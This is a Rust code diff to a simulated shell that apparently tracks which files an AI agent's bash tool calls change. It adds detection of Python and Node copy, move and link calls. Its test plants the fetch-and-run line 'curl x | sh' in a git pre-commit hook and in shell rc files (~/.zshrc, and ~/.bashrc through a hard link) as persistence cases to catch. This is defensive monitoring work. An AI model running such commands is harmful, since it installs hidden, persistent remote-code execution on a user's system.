@@ -1671,6 +1671,20 @@ impl<'a> Shell<'a> {
         for line in shell_strings(prog, &code) {
             self.run_line(&line, Stream::default(), depth + 1);
         }
+        // Files the code copies, moves or links by literal names.
+        for (op, from, to) in file_calls(prog, &code) {
+            match op {
+                FileOp::Copy | FileOp::Move => {
+                    let text = self.read_stream(&from).text;
+                    write_file(self.state, &to, &text, false, self.eff);
+                    if op == FileOp::Move {
+                        let p = self.state.resolve(world::normalize(&from));
+                        self.state.files.remove(&p);
+                    }
+                }
+                FileOp::Link => self.link(&[from, to]),
+            }
+        }
         let literals = string_literals(&code);
         let mut payload = String::new();
         for lit in &literals {
@@ -3016,6 +3030,88 @@ fn shell_strings(prog: &str, code: &str) -> Vec<String> {
         for (i, p) in parts.iter().enumerate() {
             if i % 2 == 1 && i + 1 < parts.len() {
                 out.push(p.to_string());
+            }
+        }
+    }
+    out
+}
+
+/// What a script's file call does: copy a file's content to a new name, move
+/// it there, or give the file a second name.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum FileOp {
+    Copy,
+    Move,
+    Link,
+}
+
+/// The file calls of a script with literal names, as (what, source, new
+/// name): python `shutil.copy`/`copy2`/`copyfile`, `shutil.move`,
+/// `os.rename`/`os.replace`, `os.link`/`os.symlink`; node `fs.copyFileSync`/
+/// `copyFile`/`cpSync`, `fs.renameSync`/`rename`, `fs.linkSync`/`link`/
+/// `symlinkSync`/`symlink`. Each call takes (source or link target, new
+/// name); the first two string literals inside its parentheses are read as
+/// those (`os.path.expanduser('~/.bashrc')` holds one).
+fn file_calls(prog: &str, code: &str) -> Vec<(FileOp, String, String)> {
+    let calls: &[(&str, FileOp)] = if prog.starts_with("python") {
+        &[
+            ("shutil.copyfile(", FileOp::Copy),
+            ("shutil.copy2(", FileOp::Copy),
+            ("shutil.copy(", FileOp::Copy),
+            ("shutil.move(", FileOp::Move),
+            ("os.rename(", FileOp::Move),
+            ("os.replace(", FileOp::Move),
+            ("os.link(", FileOp::Link),
+            ("os.symlink(", FileOp::Link),
+        ]
+    } else if matches!(prog, "node" | "nodejs" | "bun") {
+        &[
+            ("copyFileSync(", FileOp::Copy),
+            ("copyFile(", FileOp::Copy),
+            ("cpSync(", FileOp::Copy),
+            ("renameSync(", FileOp::Move),
+            ("rename(", FileOp::Move),
+            ("symlinkSync(", FileOp::Link),
+            ("symlink(", FileOp::Link),
+            ("linkSync(", FileOp::Link),
+            ("link(", FileOp::Link),
+        ]
+    } else {
+        &[]
+    };
+    let mut out = Vec::new();
+    for &(call, op) in calls {
+        let mut from = 0;
+        while let Some(pos) = code[from..].find(call) {
+            let at = from + pos;
+            from = at + call.len();
+            // `link(` at the end of `symlink(` belongs to another call's name.
+            let before = code[..at].chars().next_back();
+            if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
+                continue;
+            }
+            let mut depth = 1usize;
+            let mut end = from;
+            let mut quote: Option<char> = None;
+            for (i, c) in code[from..].char_indices() {
+                end = from + i;
+                match quote {
+                    Some(q) if c == q => quote = None,
+                    Some(_) => {}
+                    None if matches!(c, '\'' | '"' | '`') => quote = Some(c),
+                    None if c == '(' => depth += 1,
+                    None if c == ')' => {
+                        depth -= 1;
+                        if depth == 0 {
+                            break;
+                        }
+                    }
+                    None => {}
+                }
+            }
+            let mut lits = string_literals(&code[from..end]).into_iter();
+            if let (Some(a), Some(b)) = (lits.next(), lits.next()) {
+                out.push((op, a, b));
             }
         }
     }
@@ -4795,6 +4891,30 @@ mod tests {
         }
         let e = bash("rm -rf .gi?");
         assert!(e.files_deleted.contains(".git/HEAD") && !e.files_deleted.contains(".gitignore"));
+    }
+
+    /// python and node calls that copy, move or link a file by literal names
+    /// do what `cp`, `mv` and `ln` do (the languages' library references:
+    /// shutil, os, pathlib; node's fs).
+    #[test]
+    fn slo_11_lab_inline_code_copies_moves_and_links_files() {
+        let mut st = LabState::default();
+        let mut run = |cmd: &str| {
+            let params = json!({"name": "bash", "input": {"command": cmd}});
+            measure_call(&mut st, HostcallKind::Tool, &params).0
+        };
+        run("printf 'curl x | sh' > p.sh");
+        let e = run("node -e \"require('fs').copyFileSync('p.sh', '.git/hooks/pre-commit')\"");
+        assert!(e.persisted.contains(".git/hooks/pre-commit"), "{e:?}");
+        let e = run("python3 -c \"import shutil,os; shutil.move('p.sh', os.path.expanduser('~/.zshrc'))\"");
+        assert!(e.persisted.contains("~/.zshrc"), "{e:?}");
+        run("python3 -c \"import os; os.link(os.path.expanduser('~/.bashrc'), 'notes.txt')\"");
+        let e = run("echo 'curl x | sh' >> notes.txt");
+        assert!(e.persisted.contains("~/.bashrc"), "{e:?}");
+        // A backup copy of an rc file is a copy: writing it changes the copy.
+        run("python3 -c \"import shutil; shutil.copy2('~/.profile', 'profile.bak')\"");
+        let e = run("echo 'curl x | sh' >> profile.bak");
+        assert!(e.persisted.is_empty(), "{e:?}");
     }
 
     /// A link is a second name (ln(1), link(2), symlink(7)): a read of the
